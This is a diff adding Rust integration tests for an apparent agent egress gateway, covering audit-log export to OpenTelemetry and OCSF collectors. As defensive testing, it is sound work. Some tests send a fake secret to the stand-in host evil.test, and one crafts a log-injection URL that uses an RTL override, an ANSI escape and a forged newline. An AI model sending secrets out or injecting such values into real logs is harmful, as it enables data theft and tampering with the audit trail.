@@ -1,0 +1,427 @@
+//! Exports of the audit log's records: to a collector of the test's own, held to the schemas that
+//! OpenTelemetry and OCSF publish.
+
+use std::fs;
+use std::io::{BufRead as _, BufReader, Read as _, Write as _};
+use std::net::{SocketAddr, TcpListener, TcpStream};
+use std::process::{Command, Stdio};
+use std::sync::atomic::{AtomicBool, AtomicU16, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+
+use crate::program::{CANARY, Program, free};
+
+/// What a collector got: the path, the head and the content.
+type Taken = (String, String, String);
+
+/// A server that takes requests with a status, or hangs.
+#[derive(Clone, Default)]
+struct Collector {
+    taken: Arc<Mutex<Vec<Taken>>>,
+    status: Arc<AtomicU16>,
+    hangs: Arc<AtomicBool>,
+}
+
+impl Collector {
+    fn start(address: SocketAddr) -> Self {
+        let collector = Self::default();
+        collector.status.store(200, Ordering::SeqCst);
+        let listener = TcpListener::bind(address).unwrap();
+        let server = collector.clone();
+        std::thread::spawn(move || {
+            for stream in listener.incoming().flatten() {
+                let server = server.clone();
+                std::thread::spawn(move || drop(server.take(stream)));
+            }
+        });
+        collector
+    }
+
+    fn take(&self, mut stream: TcpStream) -> std::io::Result<()> {
+        let mut reader = BufReader::new(stream.try_clone()?);
+        let mut head = String::new();
+        while !head.ends_with("\r\n\r\n") {
+            reader.read_line(&mut head)?;
+        }
+        let length = head.to_lowercase();
+        let (_, length) = length.split_once("content-length: ").unwrap();
+        let length = length.split("\r\n").next().unwrap().parse().unwrap();
+        let mut content = vec![0; length];
+        reader.read_exact(&mut content)?;
+        if self.hangs.load(Ordering::SeqCst) {
+            std::thread::sleep(Duration::from_secs(60));
+        }
+        let status = self.status.load(Ordering::SeqCst);
+        if status == 200 {
+            let path = head.split(' ').nth(1).unwrap().to_owned();
+            let content = String::from_utf8(content).unwrap();
+            self.taken.lock().unwrap().push((path, head, content));
+        }
+        let answer = format!("HTTP/1.1 {status} So\r\nContent-Length: 2\r\n\r\n{{}}");
+        stream.write_all(answer.as_bytes())
+    }
+
+    fn taken(&self) -> Vec<Taken> {
+        self.taken.lock().unwrap().clone()
+    }
+
+    /// Every log or span so far.
+    fn all(&self, path: &str, pointer: [&str; 3]) -> Vec<Value> {
+        let of_path = self.taken().into_iter().filter(|(to, ..)| to == path);
+        let documents = of_path.map(|(.., content)| serde_json::from_str::<Value>(&content));
+        let [resource, scope, list] = pointer;
+        documents
+            .flat_map(|one| {
+                one.unwrap()[resource][0][scope][0][list]
+                    .as_array()
+                    .unwrap()
+                    .clone()
+            })
+            .collect()
+    }
+
+    fn logs(&self) -> Vec<Value> {
+        self.all("/v1/logs", ["resourceLogs", "scopeLogs", "logRecords"])
+    }
+
+    fn spans(&self) -> Vec<Value> {
+        self.all("/v1/traces", ["resourceSpans", "scopeSpans", "spans"])
+    }
+}
+
+#[track_caller]
+fn until(what: &str, mut holds: impl FnMut() -> bool) {
+    let limit = Instant::now() + Duration::from_secs(30);
+    while !holds() {
+        assert!(Instant::now() < limit, "{what}");
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+/// Sends a request with further fields through the proxy, and reads all of its answer.
+fn ask(program: &Program, url: &str, fields: &str) -> String {
+    let mut stream = TcpStream::connect(program.proxy).unwrap();
+    let host = url.split('/').nth(2).unwrap();
+    let head = format!("GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{fields}\r\n");
+    stream.write_all(head.as_bytes()).unwrap();
+    let mut answer = String::new();
+    let _ = stream.read_to_string(&mut answer);
+    answer
+}
+
+/// Has the published schemas judge what was exported.
+fn judge(documents: &[(String, Value)]) {
+    let clients = std::env::var("GATEWAY_CLIENTS").unwrap_or("/var/cache/gateway-clients".into());
+    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/export/judge.py");
+    let mut judge = Command::new("python3")
+        .arg(script)
+        .env("GATEWAY_CLIENTS", clients)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut input = judge.stdin.take().unwrap();
+    for (path, content) in documents {
+        writeln!(input, "{}", json!({ "path": path, "content": content })).unwrap();
+    }
+    drop(input);
+    let judged = judge.wait_with_output().unwrap();
+    let said = String::from_utf8_lossy(&judged.stderr);
+    let fit = String::from_utf8_lossy(&judged.stdout).lines().count();
+    assert!(judged.status.success(), "{said}");
+    assert_eq!(fit, documents.len(), "{said}");
+}
+
+fn attribute<'a>(one: &'a Value, key: &str) -> Option<&'a Value> {
+    let attributes = one["attributes"].as_array()?;
+    let found = attributes
+        .iter()
+        .find(|attribute| attribute["key"] == key)?;
+    found["value"].as_object()?.values().next()
+}
+
+const TRACE: &str = "4bf92f3577b34da6a3ce929d0e0e4736";
+
+#[test]
+fn records_arrive_as_logs_and_spans_that_fit_opentelemetrys_schema() {
+    let port = free();
+    let collector = Collector::start(port);
+    let further = format!("[[export]]\nurl = \"http://{port}\"\ntoken = \"env:KEY\"\n");
+    let program = Program::start(&further);
+    let parent = format!("traceparent: 00-{TRACE}-00f067aa0ba902b7-01\r\n");
+    assert!(ask(&program, "http://stream.test/", &parent).contains("200 OK"));
+    assert!(
+        ask(
+            &program,
+            "http://evil.test/a",
+            "traceparent: 00-nonsense\r\n"
+        )
+        .contains(" 403 ")
+    );
+    let phantom = fs::read_to_string(program.path("phantoms.env")).unwrap();
+    let phantom = phantom
+        .split('=')
+        .nth(1)
+        .unwrap()
+        .trim()
+        .trim_matches('\'')
+        .to_owned();
+    ask(&program, &format!("http://evil.test/{phantom}"), "");
+    program.json(&["pause", "agent-1"]);
+    until("three spans and an act", || {
+        let is_act = |log: &Value| log["eventName"] == "gateway.act";
+        collector.spans().len() >= 3 && collector.logs().iter().any(is_act)
+    });
+    let spans = collector.spans();
+    let continued = spans.iter().find(|span| span["traceId"] == TRACE).unwrap();
+    assert_eq!(continued["parentSpanId"], "00f067aa0ba902b7");
+    assert_eq!(continued["status"], json!({}));
+    assert_eq!(
+        attribute(continued, "server.address").unwrap(),
+        "stream.test"
+    );
+    assert_eq!(
+        attribute(continued, "http.response.status_code").unwrap(),
+        "200"
+    );
+    let refused = spans
+        .iter()
+        .find(|span| span["status"]["code"] == 2)
+        .unwrap();
+    assert_eq!(refused.get("parentSpanId"), None);
+    assert_eq!(refused["status"]["message"], "policy_default_deny");
+    // A log and its span meet in one trace, and the log names the record.
+    let logs = collector.logs();
+    let log = logs.iter().find(|log| log["traceId"] == TRACE).unwrap();
+    assert_eq!(log["spanId"], continued["spanId"]);
+    let records = program.records("exchange");
+    let hash = attribute(log, "gateway.audit.hash").unwrap();
+    assert!(records.iter().any(|record| record["hash"] == *hash));
+    let taken = collector.taken();
+    for (_, head, content) in &taken {
+        assert!(
+            head.contains(&format!("authorization: Bearer {CANARY}\r\n")),
+            "{head}"
+        );
+        for hidden in [CANARY, &phantom] {
+            assert!(!content.contains(hidden), "{content}");
+        }
+    }
+    let said = fs::read_to_string(program.path("log")).unwrap();
+    assert!(!said.contains(CANARY), "{said}");
+    let parsed = taken.into_iter().map(|(path, _, content)| (path, content));
+    let documents: Vec<_> = parsed
+        .map(|(path, content)| (path, serde_json::from_str(&content).unwrap()))
+        .collect();
+    judge(&documents);
+}
+
+#[test]
+fn events_arrive_and_are_printed_as_ocsf() {
+    let port = free();
+    let collector = Collector::start(port);
+    let further = format!("[[export]]\nurl = \"http://{port}/in/gateway/\"\nformat = \"ocsf\"\n");
+    let program = Program::start(&further);
+    ask(&program, "http://stream.test/", "");
+    ask(&program, "http://evil.test/a", "");
+    program.json(&["pause", "agent-1"]);
+    let events = || -> Vec<Value> {
+        let lines = collector
+            .taken()
+            .into_iter()
+            .flat_map(|(path, _, content)| {
+                assert_eq!(path, "/in/gateway");
+                content.lines().map(str::to_owned).collect::<Vec<_>>()
+            });
+        lines
+            .map(|line| serde_json::from_str(&line).unwrap())
+            .collect()
+    };
+    until("an API activity", || {
+        events().iter().any(|event| event["class_uid"] == 6003)
+    });
+    let sent = events();
+    let (code, printed) =
+        program.gateway(&["log", "--format", "ocsf", "--audit", "audit/log.jsonl"]);
+    assert_eq!(code, 0, "{printed}");
+    let printed: Vec<Value> = printed
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect();
+    let http = |event: &&Value| event["class_uid"] == 4002;
+    let (sent_http, printed_http): (Vec<_>, Vec<_>) = (
+        sent.iter().filter(http).collect(),
+        printed.iter().filter(http).collect(),
+    );
+    assert_eq!(sent_http, printed_http);
+    let refused = sent
+        .iter()
+        .find(|event| event["disposition"] == "Blocked")
+        .unwrap();
+    assert_eq!(refused["status_detail"], "policy_default_deny");
+    assert_eq!(refused["http_request"]["url"]["hostname"], "evil.test");
+    assert_eq!(
+        (&refused["type_uid"], &refused["action_id"]),
+        (&json!(400_203), &json!(2))
+    );
+    let all = sent.into_iter().chain(printed);
+    judge(
+        &all.map(|event| ("ocsf".to_owned(), event))
+            .collect::<Vec<_>>(),
+    );
+}
+
+#[test]
+fn a_collector_that_is_not_there_slows_nothing_and_misses_nothing() {
+    let (port, metrics) = (free(), free());
+    let further = format!(
+        "[control]\nmetrics_address = \"{metrics}\"\n[[export]]\nurl = \"http://{port}\"\n"
+    );
+    let program = Program::start(&further);
+    let began = Instant::now();
+    for _ in 0..50 {
+        assert!(ask(&program, "http://stream.test/", "").contains("200 OK"));
+    }
+    assert!(
+        began.elapsed() < Duration::from_secs(10),
+        "{:?}",
+        began.elapsed()
+    );
+    let page = || {
+        let mut stream = TcpStream::connect(metrics).unwrap();
+        stream
+            .write_all(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
+            .unwrap();
+        let mut page = String::new();
+        stream.read_to_string(&mut page).unwrap();
+        page
+    };
+    let value = |name: &str| -> u64 {
+        let page = page();
+        let line = page
+            .lines()
+            .find(|line| line.starts_with(name))
+            .unwrap_or("0 0");
+        line.rsplit(' ').next().unwrap().parse().unwrap()
+    };
+    until("a failure", || value("gateway_export_failures_total") > 0);
+    assert!(value("gateway_export_backlog_records") >= 50);
+    let collector = Collector::start(port);
+    let spans = || collector.spans().len();
+    until("fifty spans", || spans() >= 50);
+    assert_eq!(spans(), 50);
+    until("no backlog", || {
+        value("gateway_export_backlog_records") == 0
+    });
+    let sent = "gateway_export_records_total{server=\"127.0.0.1:";
+    assert!(page().contains(sent), "{}", page());
+    // It is told once that it failed, and once that it works again.
+    let said = fs::read_to_string(program.path("log")).unwrap();
+    assert_eq!(said.matches("not exported for now").count(), 1, "{said}");
+    assert_eq!(said.matches("exported again").count(), 1, "{said}");
+    // What a collector will never take is not sent for ever, and counted.
+    collector.status.store(400, Ordering::SeqCst);
+    ask(&program, "http://stream.test/", "");
+    let lost = format!("gateway_export_records_total{{server=\"{port}\",result=\"lost\"}}");
+    until("a lost record", || value(&lost) > 0);
+    collector.status.store(200, Ordering::SeqCst);
+    ask(&program, "http://stream.test/", "");
+    until("the next one", || spans() >= 51);
+}
+
+#[test]
+fn a_collector_that_hangs_does_not_hold_up_the_end() {
+    let port = free();
+    let collector = Collector::start(port);
+    collector.hangs.store(true, Ordering::SeqCst);
+    let mut program = Program::start(&format!("[[export]]\nurl = \"http://{port}\"\n"));
+    assert!(ask(&program, "http://stream.test/", "").contains("200 OK"));
+    std::thread::sleep(Duration::from_millis(1_500));
+    let pid = rustix::process::Pid::from_child(&program.child);
+    let began = Instant::now();
+    rustix::process::kill_process(pid, rustix::process::Signal::TERM).unwrap();
+    assert!(program.child.wait().unwrap().success());
+    assert!(
+        began.elapsed() < Duration::from_secs(10),
+        "{:?}",
+        began.elapsed()
+    );
+    let said = fs::read_to_string(program.path("log")).unwrap();
+    assert!(said.contains("not exported before the end"), "{said}");
+    // The log has everything in any case, and the next start goes on.
+    let (code, said) = program.gateway(&["audit", "verify", "audit/log.jsonl"]);
+    assert_eq!(code, 0, "{said}");
+    collector.hangs.store(false, Ordering::SeqCst);
+    program.child = crate::program::spawn(program.folder.path());
+    let name = format!("serve-{}.sock", program.child.id());
+    program.socket = program.socket.with_file_name(name);
+    program.wait();
+    ask(&program, "http://stream.test/", "");
+    until("a span", || !collector.spans().is_empty());
+}
+
+#[test]
+fn what_is_written_just_before_the_end_is_exported() {
+    let port = free();
+    let collector = Collector::start(port);
+    let mut program = Program::start(&format!("[[export]]\nurl = \"http://{port}\"\n"));
+    for _ in 0..20 {
+        ask(&program, "http://stream.test/", "");
+    }
+    let pid = rustix::process::Pid::from_child(&program.child);
+    rustix::process::kill_process(pid, rustix::process::Signal::TERM).unwrap();
+    assert!(program.child.wait().unwrap().success());
+    assert_eq!(collector.spans().len(), 20);
+}
+
+#[test]
+fn a_changed_export_is_refused_by_name_and_the_old_one_goes_on() {
+    let port = free();
+    let collector = Collector::start(port);
+    let program = Program::start(&format!("[[export]]\nurl = \"http://{port}\"\n"));
+    let file = program.path("gateway.toml");
+    let text = fs::read_to_string(&file).unwrap();
+    fs::write(&file, text.replace(&port.to_string(), &free().to_string())).unwrap();
+    let (code, said) = program.gateway(&["reload"]);
+    assert!(code != 0 && said.contains("[[export]]"), "{said}");
+    ask(&program, "http://stream.test/", "");
+    until("a span", || !collector.spans().is_empty());
+}
+
+#[test]
+fn each_kind_of_refusal_is_one_line_of_serve_and_repeats_are_counted() {
+    let mut program = Program::start("");
+    for at in 0..30 {
+        ask(&program, &format!("http://evil.test/{at}"), "");
+    }
+    ask(
+        &program,
+        "http://forbidden.test/\u{202e}%1b%5b2J%0agateway:%20fine",
+        "",
+    );
+    ask(&program, "http://forbidden.test/b", "");
+    ask(&program, "http://stream.test/", "");
+    let said = || fs::read_to_string(program.folder.path().join("log")).unwrap();
+    until("the last line", || {
+        said().contains("forbidden.test:80: policy_forbids")
+    });
+    let first = "gateway: refused agent-1 evil.test:80: policy_default_deny (GET /0); gateway why ";
+    assert_eq!(said().matches("evil.test").count(), 1, "{}", said());
+    assert!(said().contains(first), "{}", said());
+    assert!(
+        said().contains("gateway: refused agent-1 a request: "),
+        "{}",
+        said()
+    );
+    assert!(!said().contains(['\u{1b}', '\r', '\u{202e}']) && !said().contains("\ngateway: fine"));
+    assert!(!said().contains("stream.test"), "{}", said());
+    let pid = rustix::process::Pid::from_child(&program.child);
+    rustix::process::kill_process(pid, rustix::process::Signal::TERM).unwrap();
+    program.child.wait().unwrap();
+    let said = fs::read_to_string(program.path("log")).unwrap();
+    let again = "refused agent-1 evil.test:80: policy_default_deny, 29 more times\n";
+    assert!(said.contains(again), "{said}");
+}
